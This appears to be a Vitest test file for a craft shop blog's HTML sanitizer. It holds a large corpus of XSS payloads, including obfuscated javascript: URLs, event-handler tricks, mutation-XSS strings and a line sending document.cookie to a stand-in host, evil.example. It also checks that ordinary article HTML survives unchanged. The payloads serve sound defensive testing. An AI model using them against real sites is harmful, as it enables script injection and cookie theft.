import { describe, expect, it } from "vitest";
import { sanitizeHtml } from "~/lib/sanitize";
import { blogs } from "../../db/seed/data/blog";

/** The attributes each tag may keep, written out here independently of the sanitizer's own list. */
const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  h2: ["id"],
  h3: ["id"],
  h4: ["id"],
  a: ["href", "title", "rel"],
  img: ["src", "alt", "title", "width", "height"],
  blockquote: ["cite"],
  q: ["cite"],
  ol: ["start", "reversed"],
  th: ["scope", "colspan", "rowspan"],
  td: ["colspan", "rowspan"],
};

const FORBIDDEN_TAGS =
  /<\/?(?:script|iframe|object|embed|svg|math|style|form|meta|base|link|input|button|textarea|select|frame|frameset|applet|noscript|template|body|html|head|title|xmp|listing|plaintext|isindex|details|video|audio|source|marquee)\b/i;

const URL_ATTRIBUTES = new Set([
  "href",
  "src",
  "cite",
  "action",
  "formaction",
  "background",
  "poster",
  "xlink:href",
  "data",
  "srcset",
  "lowsrc",
  "dynsrc",
]);

/** A value as a browser reads it: character references decoded, whitespace and controls gone. */
function asBrowserReadsIt(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Math.min(parseInt(hex, 16), 0x10ffff)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Math.min(Number(dec), 0x10ffff)))
    .replace(/&colon;/gi, ":")
    .replace(/&tab;/gi, "\t")
    .replace(/&newline;/gi, "\n")
    .replace(/&quot;/gi, '"')
    .replace(/&apos;/gi, "'")
    .replace(/&lt;/gi, "<")
    .replace(/&gt;/gi, ">")
    .replace(/&amp;/gi, "&")
    .replace(/[\u0000-\u0020\u007f-\u009f]+/g, "")
    .toLowerCase();
}

interface Tag {
  name: string;
  attributes: [string, string][];
}

/** Every start tag in sanitized output (which writes attributes as name="value"). */
function tagsOf(html: string): Tag[] {
  return [...html.matchAll(/<([a-zA-Z][^\s/>]*)([^>]*)>/g)].map((match) => ({
    name: match[1]!.toLowerCase(),
    attributes: [...(match[2] ?? "").matchAll(/([^\s"'=/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)].map(
      (attribute) =>
        [attribute[1]!.toLowerCase(), attribute[2] ?? attribute[3] ?? attribute[4] ?? ""] as [string, string],
    ),
  }));
}

/** Nothing in the output can run: no script or embedding tag, no handler, no style, no script URL. */
function expectInert(output: string) {
  expect(output).not.toMatch(/<script/i);
  expect(output).not.toMatch(FORBIDDEN_TAGS);
  for (const tag of tagsOf(output)) {
    for (const [name, value] of tag.attributes) {
      expect(name, `<${tag.name} ${name}> in ${output}`).not.toMatch(/^on/);
      expect(name, `<${tag.name} ${name}> in ${output}`).not.toBe("style");
      expect(ALLOWED_ATTRIBUTES[tag.name] ?? [], `<${tag.name} ${name}> in ${output}`).toContain(name);
      if (URL_ATTRIBUTES.has(name))
        expect(asBrowserReadsIt(value), `${name} in ${output}`).not.toMatch(
          /^(?:javascript|vbscript|data|file|about|blob):/,
        );
      expect(asBrowserReadsIt(value), `${name} in ${output}`).not.toMatch(/javascript:|vbscript:|expression\(/);
    }
  }
  // Outside quoted values (text there is escaped and inert), no tag carries a handler or a style.
  const bare = output.replace(/<[^>]*>/g, (tag) => tag.replace(/"[^"]*"/g, '""'));
  expect(bare).not.toMatch(/<[a-zA-Z][^>]*\son\w+\s*=/i);
  expect(bare).not.toMatch(/<[a-zA-Z][^>]*\sstyle\s*=/i);
}

const ALERT_PAYLOADS: [string, string][] = [
  // Script tags in many spellings, nestings and states.
  ["plain script", "<script>alert(1)</script>"],
  ["upper-case script", "<SCRIPT>alert(1)</SCRIPT>"],
  ["mixed-case script with src", '<ScRiPt SRC="https://evil.example/x.js"></sCrIpT>'],
  ["script src without quotes", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"],
  ["script with attributes and a slash", '<script/type="text/javascript">alert(1)</script>'],
  ["script split by another script", "<scr<script>ipt>alert(1)</script>"],
  ["script nested in script", "<script><script>alert(1)</script></script>"],
  ["script closed twice", "<script>/*</script><script>*/alert(1)</script>"],
  ["double opening bracket", "<<script>alert(1);//<</script>"],
  ["unclosed script", "<p>hello</p><script>alert(1)"],
  ["script without a closing bracket", "<script src=https://evil.example/x.js"],
  [
    "script inside a paragraph",
    "<p>Intro <script>document.location='https://evil.example/?'+document.cookie</script> outro</p>",
  ],
  ["script inside an allowed heading", '<h2 id="a"><script>alert(1)</script>Title</h2>'],
  ["script in a table cell", "<table><tr><td><script>alert(1)</script></td></tr></table>"],
  ["script in xmp", "<xmp><script>alert(1)</script></xmp>"],
  ["script in noscript", "<noscript><script>alert(1)</script></noscript>"],
  ["script in template", "<template><script>alert(1)</script></template>"],
  ["script in CDATA", "<![CDATA[<script>alert(1)</script>]]>"],
  // Event handlers on allowed and unknown tags.
  ["img onerror", "<img src=x onerror=alert(1)>"],
  ["img onerror quoted", '<img src="x" onerror="alert(1)">'],
  ["img onerror with a tab before =", "<img src=1 onerror\t=alert(1)>"],
  ["img with slashes for spaces", '<img/src="x"/onerror=alert(1)>'],
  ["img with backtick", "<img src=`x`onerror=alert(1)>"],
  ["img self-closing handler", '<img src="x" onerror="alert(1)"//'],
  ["paragraph onclick", "<p onclick=alert(1)>x</p>"],
  ["heading onmouseover", '<h2 id="x" onmouseover="alert(1)">h</h2>'],
  ["link onclick", '<a href="https://example.com" onclick="alert(1)">x</a>'],
  ["handler with upper case", '<p ONCLICK="alert(1)">x</p>'],
  ["unknown tag handler", '<custom-el onclick="alert(1)">x</custom-el>'],
  ["body onload", "<body onload=alert(1)>"],
  ["details ontoggle", "<details open ontoggle=alert(1)>"],
  ["input autofocus onfocus", "<input autofocus onfocus=alert(1)>"],
  ["video source onerror", "<video><source onerror=alert(1)></video>"],
  ["marquee onstart", "<marquee onstart=alert(1)>x</marquee>"],
  ["svg onload", "<svg/onload=alert(1)>"],
  ["body in a div", "<div><body onpageshow=alert(1)></div>"],
  // javascript:, vbscript: and data: URLs, obfuscated.
  ["javascript href", '<a href="javascript:alert(1)">x</a>'],
  ["mixed-case javascript", '<A HREF="JaVaScRiPt:alert(1)">x</A>'],
  ["unquoted javascript href", "<a href=javascript:alert(1)>x</a>"],
  ["single-quoted javascript href", "<a href='javascript:alert(1)'>x</a>"],
  ["leading spaces", '<a href="   javascript:alert(1)">x</a>'],
  ["leading control character", '<a href="\u0001javascript:alert(1)">x</a>'],
  ["newline inside the scheme", '<a href="java\nscript:alert(1)">x</a>'],
  ["tab inside the scheme", '<a href="java\tscript:alert(1)">x</a>'],
  ["tab entity inside the scheme", '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ["newline entity inside the scheme", '<a href="jav&#10;ascript:alert(1)">x</a>'],
  ["named tab entity", '<a href="java&Tab;script:alert(1)">x</a>'],
  ["named colon entity", '<a href="javascript&colon;alert(1)">x</a>'],
  ["decimal entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  [
    "decimal entities without semicolons and with zeros",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  ],
  ["hex entities", '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'],
  [
    "hex entities without semicolons",
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  ],
  ["one entity letter", '<a href="&#106;avascript:alert(1)">x</a>'],
  ["img src javascript", '<img src="javascript:alert(1)">'],
  ["img src javascript with entity", '<img src="java&#115;cript:alert(1)">'],
  ["vbscript", '<a href="vbscript:msgbox(1)">x</a>'],
  ["upper-case vbscript", '<a href="VBSCRIPT:msgbox(1)">x</a>'],
  ["data html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ["data svg image", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ["data with entity colon", '<a href="data&#58;text/html,<script>alert(1)</script>">x</a>'],
  ["blockquote cite javascript", '<blockquote cite="javascript:alert(1)">x</blockquote>'],
  ["table background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ["protocol-relative link", '<a href="//evil.example/phish">x</a>'],
  // Embeddings and document-level tags.
  ["iframe src", '<iframe src="https://evil.example"></iframe>'],
  ["iframe javascript", "<iframe src=javascript:alert(1)></iframe>"],
  ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["unclosed iframe", '<iframe src="https://evil.example"'],
  ["object data", '<object data="javascript:alert(1)"></object>'],
  [
    "object with param",
    '<object type="application/x-shockwave-flash" data="x.swf"><param name="allowScriptAccess" value="always"></object>',
  ],
  ["embed", '<embed src="javascript:alert(1)">'],
  ["svg script", "<svg><script>alert(1)</script></svg>"],
  ["svg xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ["svg animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"],
  ["math maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ["style tag", "<style>body{background:url(javascript:alert(1))}</style>"],
  ["style import", '<style>@import "https://evil.example/x.css";</style>'],
  ["link stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["base href", '<base href="javascript:alert(1)//">'],
  ["form action", '<form action="javascript:alert(1)"><input type=submit value=Go></form>'],
  ["button formaction", '<button formaction="javascript:alert(1)">x</button>'],
  ["textarea", "<textarea><script>alert(1)</script></textarea>"],
  ["title", "<title><img src=x onerror=alert(1)></title>"],
  // CSS in style attributes.
  ["style expression", '<div style="width:expression(alert(1))">x</div>'],
  ["style url javascript", '<p style="background:url(javascript:alert(1))">x</p>'],
  ["style url with escapes", '<p style="background:url(&#106;avascript:alert(1))">x</p>'],
  ["style behavior", '<span style="behavior:url(x.htc)">x</span>'],
  ["style moz-binding", '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>'],
  ["style on an image", '<img src="/a.png" style="position:fixed;top:0;left:0;width:100%;height:100%">'],
  // Mutation-XSS classics.
  ["noscript title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ["math mglyph style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
  ["svg p style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ["form math mglyph", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"],
  ["math textarea path", '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">'],
  ["attribute closing the tag", '<p title="</p><script>alert(1)</script>">x</p>'],
  ["id with an entity quote", '<h2 id="x&quot;><img src=x onerror=alert(1)>">h</h2>'],
  ["alt with backticks", '<img src="/a.png" alt="``><img src=x onerror=alert(1)>">'],
  ["listing entity", "<listing>&lt;img onerror=alert(1) src=1&gt;</listing>"],
  ["nested anchors", '<a href="https://example.com"><table><a href="javascript:alert(1)">x</a></table></a>'],
  // Unclosed tags, comments, attribute-breaking quotes.
  ["unclosed img", "<img src=x onerror=alert(1)"],
  ["unclosed quote", '<a href="javascript:alert(1)'],
  ["unclosed link", "<a href=javascript:alert(1)"],
  ["comment around script", "<!--<script>alert(1)</script>-->"],
  ["conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"],
  ["abruptly closed comment", "<!--><script>alert(1)</script>-->"],
  ["bang-closed comment", "<!-- --!><img src=x onerror=alert(1)> -->"],
  ["comment in an attribute", '<img src="/a.png" alt="<!--" onerror="alert(1)">'],
  ["quote breaking the title", `<a href="https://example.com" title='"><script>alert(1)</script>'>x</a>`],
  ["quote breaking the alt", `<img src="/a.png" alt='" onerror="alert(1)'>`],
  ["double-quote pile", '<img """><script>alert(1)</script>">'],
  ["bare attribute name", "<img src=x onerror>"],
];

describe("sanitizeHtml: an XSS corpus", () => {
  it("has a corpus worth the name", () => {
    expect(ALERT_PAYLOADS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(ALERT_PAYLOADS)("%s leaves nothing executable", (_name, payload) => {
    const output = sanitizeHtml(payload);
    expectInert(output);
    // Sanitizing again changes nothing dangerous either (the output is stable as input).
    expectInert(sanitizeHtml(output));
  });

  it("drops scripts, styles and embeddings together with their content", () => {
    expect(sanitizeHtml("<p>a</p><script>stealCookies()</script><p>b</p>")).toBe("<p>a</p><p>b</p>");
    expect(sanitizeHtml("<style>.x{color:red}</style><p>b</p>")).toBe("<p>b</p>");
    expect(sanitizeHtml('<iframe src="https://evil.example">fallback</iframe><p>b</p>')).toBe("<p>b</p>");
    expect(sanitizeHtml("<svg><text>drawn</text></svg><p>b</p>")).toBe("<p>b</p>");
    expect(sanitizeHtml('<form action="/x"><input name="q"><button>Go</button></form><p>b</p>')).toBe("<p>b</p>");
  });

  it("keeps the text of unknown tags, escaped, and drops the tags", () => {
    expect(sanitizeHtml('<custom-el onclick="alert(1)">kept text</custom-el>')).toBe("kept text");
    expect(sanitizeHtml("<p>1 < 2 and 3 > 2</p>")).not.toMatch(/<\s*2/);
  });

  it("drops a script URL entirely, keeping the link text", () => {
    expect(sanitizeHtml('<a href="javascript:alert(1)">Click</a>')).toBe("<a>Click</a>");
    expect(sanitizeHtml('<a href="jav&#x09;ascript:alert(1)">Click</a>')).toBe("<a>Click</a>");
    expect(sanitizeHtml('<a href="javascript&colon;alert(1)">Click</a>')).toBe("<a>Click</a>");
    expect(sanitizeHtml('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">')).toBe('<img alt="dot">');
  });

  it("keeps http(s), mailto, site-relative and fragment URLs", () => {
    expect(sanitizeHtml('<a href="/products?category=wedding&amp;sort=price">shop</a>')).toBe(
      '<a href="/products?category=wedding&amp;sort=price">shop</a>',
    );
    expect(sanitizeHtml('<a href="#steps">steps</a>')).toBe('<a href="#steps">steps</a>');
    expect(sanitizeHtml('<a href="mailto:hello@twistbloom.com">mail</a>')).toBe(
      '<a href="mailto:hello@twistbloom.com">mail</a>',
    );
    expect(sanitizeHtml('<a href="../guides/roses">rel</a>')).toBe('<a href="../guides/roses">rel</a>');
    expect(sanitizeHtml('<img src="/images/blog/rose.svg" alt="Rose">')).toBe(
      '<img src="/images/blog/rose.svg" alt="Rose">',
    );
  });

  it("gives external links rel=noopener noreferrer nofollow, whatever the order of their attributes", () => {
    const rel = 'rel="noopener noreferrer nofollow"';
    expect(sanitizeHtml('<a href="https://example.com/a">x</a>')).toBe(`<a ${rel} href="https://example.com/a">x</a>`);
    expect(sanitizeHtml('<a href="http://example.com/a" title="t">x</a>')).toBe(
      `<a ${rel} href="http://example.com/a" title="t">x</a>`,
    );
    expect(sanitizeHtml('<a title="t" href="https://example.com/a">x</a>')).toBe(
      `<a ${rel} title="t" href="https://example.com/a">x</a>`,
    );
    // A link's own rel never survives to weaken it; site links get none.
    expect(sanitizeHtml('<a rel="opener" href="https://example.com">x</a>')).toBe(
      `<a ${rel} href="https://example.com">x</a>`,
    );
    expect(sanitizeHtml('<a href="/blog">x</a>')).toBe('<a href="/blog">x</a>');
  });

  it("keeps only numeric image sizes and table spans", () => {
    expect(sanitizeHtml('<img src="/a.png" alt="a" width="640" height="480">')).toBe(
      '<img src="/a.png" alt="a" width="640" height="480">',
    );
    // A size that is not a number loses its value (a bare `width` means nothing to the browser).
    const sized = sanitizeHtml('<img src="/a.png" width="100%" height="expression(alert(1))">');
    expect(sized).toMatch(/^<img src="\/a\.png"(?: width)?(?: height)?>$/);
    expect(sanitizeHtml('<table><tr><td colspan="2">x</td><td rowspan="x">y</td></tr></table>')).toMatch(
      /^<table><tr><td colspan="2">x<\/td><td(?: rowspan)?>y<\/td><\/tr><\/table>$/,
    );
  });
});

describe("sanitizeHtml: ordinary article HTML", () => {
  const article = [
    '<h2 id="materials">Materials</h2>',
    '<p>You need <strong>three</strong> red stems, <em>one</em> green stem and <a href="/products/beginner-rose-making-kit" title="Kit">the kit</a>.</p>',
    "<ul>\n<li>3 red chenille stems</li>\n<li>Green floral tape</li>\n</ul>",
    '<h3 id="steps">Steps</h3>',
    '<ol start="2" reversed>\n<li>Bend a hook.</li>\n<li>Wind the bud.</li>\n</ol>',
    '<p>See <a rel="noopener noreferrer nofollow" href="https://example.com/wire-gauges">a wire gauge chart</a> or write to <a href="mailto:hello@twistbloom.com">us</a>.</p>',
    '<figure><img src="/images/blog/how-to-make-pipe-cleaner-roses.svg" alt="A finished rose" width="1200" height="800"><figcaption>A finished rose</figcaption></figure>',
    '<table><caption>Stem sizes</caption><thead><tr><th scope="col">Size</th><th scope="col">Use</th></tr></thead><tbody><tr><td>6 mm</td><td>Petals</td></tr><tr><td colspan="2">Mix both</td></tr></tbody></table>',
    '<blockquote cite="https://example.com/quote"><p>Tension is everything.</p></blockquote>',
    "<pre><code>twist(stem, 3);</code></pre>",
    "<p>Press <kbd>Ctrl</kbd> and use <code>wire</code>; H<sub>2</sub>O and x<sup>2</sup>, <mark>note</mark>, <small>small</small>, <s>old</s>, <u>u</u>, <b>b</b>, <i>i</i>.</p>",
    "<dl><dt>Chenille</dt><dd>Pipe cleaner</dd></dl>",
    "<hr>",
    "<p>Line one<br>line two &amp; more.</p>",
  ].join("\n");

  it("survives unchanged", () => {
    expect(sanitizeHtml(article)).toBe(article);
  });

  it.each(blogs.map((blog) => [blog.slug, blog.content] as const))(
    "the seeded article %s survives unchanged",
    (_slug, content) => {
      expect(sanitizeHtml(content)).toBe(content);
    },
  );

  it("keeps the text and the safe markup around a removed payload", () => {
    const output = sanitizeHtml(
      '<h2 id="intro" onclick="alert(1)">Intro</h2><p style="color:red">Text <img src=x onerror=alert(1)> end</p>',
    );
    expect(output).toBe('<h2 id="intro">Intro</h2><p>Text <img src="x"> end</p>');
  });
});
